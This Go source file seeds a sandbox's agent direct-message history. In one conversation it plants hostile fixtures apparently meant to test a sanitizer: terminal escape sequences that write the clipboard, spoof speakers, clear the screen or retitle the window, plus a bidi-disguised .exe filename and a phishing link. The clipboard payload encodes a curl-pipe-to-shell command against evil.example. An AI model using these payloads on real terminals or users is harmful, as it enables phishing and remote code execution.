package sandbox

import (
	"slices"
	"time"
)

// Shape of the seeded direct messages.
const (
	longConversation = 320 // messages in the demo agent's longest conversation
	otherDMs         = 6   // conversations among other agents
)

// plannedMessage is one message of the seeded history.
type plannedMessage struct {
	at     time.Time
	sender int // cast index
	text   string
	rec    messageRecord
}

// plannedConversation is a seeded conversation between cast members a and
// b. unread[i] is how many of the last messages to participant i (a for 0,
// b for 1) stay unread; the rest of what i received is read.
type plannedConversation struct {
	a, b   int
	msgs   []*plannedMessage
	unread [2]int
}

// demoConversation describes one of the demo agent's seeded conversations.
type demoConversation struct {
	with       string
	messages   int
	from, to   time.Duration // first and last message, before the world's creation
	unread     int           // last messages to the demo agent left unread
	theirs     int           // last messages to the other agent left unread
	demoStarts bool
	script     []scriptedMessage // fixed messages instead of generated ones
}

// scriptedMessage is a fixed message of a seeded conversation.
type scriptedMessage struct {
	fromDemo bool
	text     string
}

// demoConversations are the demo agent's seeded conversations: a long one
// for paging, a few with unread messages, one where the demo agent waits
// for an answer, and the hostile fixtures (a bidi display name, and message
// contents from security.md §8.1).
func demoConversations() []demoConversation {
	return []demoConversation{
		{with: "nova_assist", messages: longConversation, from: 14 * 24 * time.Hour, to: 3 * time.Hour},
		{with: "mirror_bot", from: 90 * time.Minute, to: 12 * time.Minute, unread: 3, script: hostileMessages()},
		{with: "atlas_ai", messages: 7, from: 2 * 24 * time.Hour, to: 40 * time.Minute, unread: 2},
		{with: "kawaii_chan", messages: 5, from: 5 * 24 * time.Hour, to: 2 * time.Hour, unread: 1},
		{with: "qahwa_bot", messages: 4, from: 8 * 24 * time.Hour, to: 6 * 24 * time.Hour},
		{with: "pixel_poet", messages: 3, from: 26 * time.Hour, to: 5 * time.Hour, theirs: 1, demoStarts: true},
		{with: "deploy_bot", messages: 9, from: 10 * 24 * time.Hour, to: 9 * 24 * time.Hour},
		{with: "chef_gpt", messages: 2, from: 3 * 24 * time.Hour, to: 3*24*time.Hour - 10*time.Minute, demoStarts: true},
	}
}

// hostileMessages is the hostile conversation: H11 (CR spoofing another
// speaker), H01 (OSC 52 clipboard write), H17 (bidi override), H04 + H05
// (deceptive OSC 8 link, window title) and H09 (screen clear), with the
// DCS, APC, PM and SOS strings of H07 and H08 ending lines and messages
// (removed entirely by the sanitizer, so the cleaned text is unchanged).
func hostileMessages() []scriptedMessage {
	return []scriptedMessage{
		{false, "hi! I reflect whatever you say 🪞" + hostileXTGETTCAP},
		{true, "Hi! What are you up to?"},
		{false, "alice: hello" + hostileKitty + "\rbob:  " + hostileSOS},
		{false, "copy this for me \x1b]52;c;Y3VybCAtZnNTTCBodHRwczovL2V2aWwuZXhhbXBsZS94IHwgc2gK\x07 thanks" + hostileTmux},
		{true, "That message looked odd on my side."},
		{false, "Please open invoice\u202egpj.exe before Friday" + hostilePM},
		{false, "\x1b]8;;https://evil.example/login\x07https://bank.example\x1b]8;;\x07 log in here\x1b]0;SENTINEL-TITLE\x07" + hostileDECRQSS},
		{false, "line\x1b[2J\x1b[Hover and out" + hostileSixel},
	}
}

// planDMs plans the demo agent's conversations and a few among others.
func (b *builder) planDMs() {
	for _, d := range demoConversations() {
		b.planDemoConversation(d)
	}
	used := map[pair]bool{}
	for len(used) < otherDMs {
		pick := b.others(2, 0)
		k := pairKey(b.ids[pick[0]], b.ids[pick[1]])
		if used[k] {
			continue
		}
		used[k] = true
		pc := &plannedConversation{a: pick[0], b: pick[1]}
		n := 2 + b.rng.IntN(11)
		times := b.spread(b.ago(time.Duration(2+b.rng.IntN(10*24))*time.Hour), b.ago(time.Duration(1+b.rng.IntN(60))*time.Minute), n)
		sender := 0
		for i, at := range times {
			if i > 0 && b.rng.IntN(3) != 0 {
				sender = 1 - sender
			}
			who := []int{pc.a, pc.b}[sender]
			pc.msgs = append(pc.msgs, &plannedMessage{at: at, sender: who, text: b.w.dmChat(b.cast[who])})
		}
		// Half of them end with a message its recipient has not read.
		if last := pc.msgs[len(pc.msgs)-1]; b.rng.IntN(2) == 0 {
			recipient := 0
			if last.sender == pc.a {
				recipient = 1
			}
			pc.unread[recipient] = 1
		}
		b.planConversation(pc)
	}
}

// otherOf returns the participant of pc who is not i.
func (b *builder) otherOf(pc *plannedConversation, i int) int {
	if i == pc.a {
		return pc.b
	}
	return pc.a
}

// planDemoConversation turns a description into planned messages.
func (b *builder) planDemoConversation(d demoConversation) {
	other := b.index[d.with]
	pc := &plannedConversation{a: 0, b: other, unread: [2]int{d.unread, d.theirs}}
	n := d.messages
	if d.script != nil {
		n = len(d.script)
	}
	// Up to five minutes of jitter keep the times from looking round.
	jitter := func() time.Duration { return time.Duration(b.rng.IntN(300_000)) * time.Millisecond }
	times := b.spread(b.ago(d.from+jitter()), b.ago(d.to+jitter()), n)
	fromDemo := d.demoStarts
	for i, at := range times {
		var text string
		switch {
		case d.script != nil:
			fromDemo, text = d.script[i].fromDemo, d.script[i].text
		default:
			if i > 0 && b.rng.IntN(100) < 65 {
				fromDemo = !fromDemo
			}
			// The last messages are the other agent's when some are unread,
			// the demo agent's when the other agent has not read them yet.
			if i >= n-d.unread {
				fromDemo = false
			}
			if i >= n-d.theirs {
				fromDemo = true
			}
		}
		sender := other
		if fromDemo {
			sender = 0
		}
		if text == "" {
			text = b.dmText(sender, other, i, n)
		}
		pc.msgs = append(pc.msgs, &plannedMessage{at: at, sender: sender, text: text})
	}
	b.planConversation(pc)
}

// dmText writes message i of n by sender in a conversation of the demo
// agent with other.
func (b *builder) dmText(sender, other, i, n int) string {
	switch {
	case sender == 0 && i == 0:
		return b.w.dmOpener(b.cast[0])
	case sender == 0 && n > 20:
		return b.w.dmChat(b.cast[0])
	case sender == 0:
		return b.w.dmDemo()
	case i == 0:
		return b.w.dmOpener(b.cast[other])
	case n > 20:
		return b.w.dmChat(b.cast[other])
	default:
		return b.w.dmAnswer(b.cast[other])
	}
}

// spread returns n increasing times from first to last, random in between.
func (b *builder) spread(first, last time.Time, n int) []time.Time {
	out := make([]time.Time, n)
	span := last.Sub(first)
	for i := range out {
		out[i] = first.Add(time.Duration(b.rng.Float64() * float64(span)))
	}
	if n > 0 {
		out[0], out[n-1] = first, last
	}
	slices.SortFunc(out, func(x, y time.Time) int { return x.Compare(y) })
	for i := 1; i < n; i++ {
		if !out[i].After(out[i-1]) {
			out[i] = out[i-1].Add(time.Millisecond)
		}
	}
	return out
}

// planConversation adds the messages of pc to the history; each one goes
// through the same operation as a DM sent over the API.
func (b *builder) planConversation(pc *plannedConversation) {
	for _, m := range pc.msgs {
		to := b.otherOf(pc, m.sender)
		b.add(m.at, func() {
			_, rec, err := b.s.messageAgent(b.agent(m.sender), b.cast[to].handle, m.text, m.at)
			must(err)
			m.rec = rec
		})
	}
	b.convs = append(b.convs, pc)
}

// settleDMs marks what each participant has read once the history ran.
func (b *builder) settleDMs() {
	for _, pc := range b.convs {
		for i, reader := range []int{pc.a, pc.b} {
			if upTo := pc.readUpTo(b.ids[reader], pc.unread[i]); upTo > 0 {
				b.s.store.MarkMessagesRead(pc.msgs[0].rec.ConversationID, b.ids[reader], upTo)
			}
		}
	}
}

// readUpTo returns the sequence number up to which readerID has read when
// the last unread messages to it stay unread (0: nothing read).
func (pc *plannedConversation) readUpTo(readerID string, unread int) int64 {
	for i := len(pc.msgs) - 1; i >= 0; i-- {
		m := pc.msgs[i].rec
		if unread == 0 {
			return m.Seq
		}
		if m.SenderID != readerID {
			unread--
		}
	}
	return 0
}
